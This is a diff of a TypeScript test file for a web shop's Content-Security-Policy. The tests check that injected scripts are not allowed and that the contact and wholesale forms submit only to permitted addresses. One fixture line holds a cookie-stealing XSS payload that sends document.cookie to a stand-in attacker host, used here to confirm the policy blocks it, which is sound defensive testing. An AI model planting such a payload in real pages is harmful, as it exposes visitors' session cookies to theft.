@@ -1,4 +1,4 @@
-/** What reaches a document by the side of the site's own code. */
+/** What documents allow: the site's own code, and the addresses that the settings name. */
 import { createHash } from 'node:crypto'
 import { join } from 'node:path'
 import { pathToFileURL } from 'node:url'
@@ -6,15 +6,18 @@ import type { ServerBuild } from 'react-router'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { openShop, type TestShop } from '#test/shop.ts'
 import { ensureBuilt } from '#test/torture/running-shop.ts'
+import type { Pages } from './pages.ts'
 
 const BUILT = join(import.meta.dirname, '../../build/site/server/index.js')
 const INJECTED = 'fetch("https://evil.example/" + document.cookie)'
 
 type Render = (...given: never[]) => Promise<Response>
 
+const built = async () => (await import(pathToFileURL(BUILT).href)) as ServerBuild
+
 /** The real site with a hole in it: somebody's text stands in every document as HTML. */
 async function siteWithAHole(): Promise<ServerBuild> {
-  const build = (await import(pathToFileURL(BUILT).href)) as ServerBuild
+  const build = await built()
   const { default: render, ...more } = build.entry.module as unknown as { default: Render }
   const withHole: Render = async (...given) => {
     const answer = await render(...given)
@@ -24,12 +27,17 @@ async function siteWithAHole(): Promise<ServerBuild> {
   return { ...build, entry: { module: { ...more, default: withHole } } } as unknown as ServerBuild
 }
 
+const pagesOf = (build: ServerBuild): Pages => ({
+  build: async () => build,
+  assets: null,
+  files: null,
+  mode: 'production',
+})
+
 let shop: TestShop
 beforeAll(async () => {
   ensureBuilt()
-  const build = await siteWithAHole()
-  const pages = { build: async () => build, assets: null, files: null, mode: 'production' as const }
-  shop = await openShop({ pages })
+  shop = await openShop({ pages: pagesOf(await siteWithAHole()) })
 }, 300_000)
 afterAll(() => shop.close())
 
@@ -42,4 +50,40 @@ test('a script that comes into a document with somebody’s text is not among th
   // The site's own, such as the data block, still are.
   const data = /<script>(window\.__reactRouterContext = [\s\S]*?)<\/script>/.exec(text)?.[1] ?? ''
   expect(policy).toContain(hashOf(data))
+})
+
+/** Where the forms of the two pages are sent, and which addresses their policies allow for it. */
+async function formsOf(of: TestShop) {
+  const found = await Promise.all(
+    ['/', '/wholesale'].map(async (path) => {
+      const { text, headers } = await of.visitor().get(path)
+      const rule = (name: string) =>
+        new RegExp(`${name} ([^;]*)`).exec(String(headers['content-security-policy']))?.[1]
+      const action = /<form[^>]* action="([^"]*send)"/.exec(text)?.[1]
+      return { action, mayCall: rule('connect-src'), maySend: rule('form-action') }
+    }),
+  )
+  return found
+}
+
+test('the contact and the wholesale form are sent to this shop', async () => {
+  expect(await formsOf(shop)).toEqual([
+    { action: '/send', mayCall: "'self'", maySend: "'self'" },
+    { action: '/wholesale/send', mayCall: "'self'", maySend: "'self'" },
+  ])
+})
+
+test('with MAIL_SERVICE_BASE they are sent there, with JavaScript and without', async () => {
+  const other = await openShop({
+    env: { MAIL_SERVICE_BASE: 'https://mail.example/frame/' },
+    pages: pagesOf(await built()),
+  })
+  const rules = { mayCall: "'self' https://mail.example", maySend: "'self' https://mail.example" }
+  expect(await formsOf(other)).toEqual([
+    { action: 'https://mail.example/frame/send', ...rules },
+    { action: 'https://mail.example/frame/wholesale/send', ...rules },
+  ])
+  // For the scripts of the page.
+  expect((await other.visitor().get('/')).text).toContain('https://mail.example/frame\\"')
+  await other.close()
 })
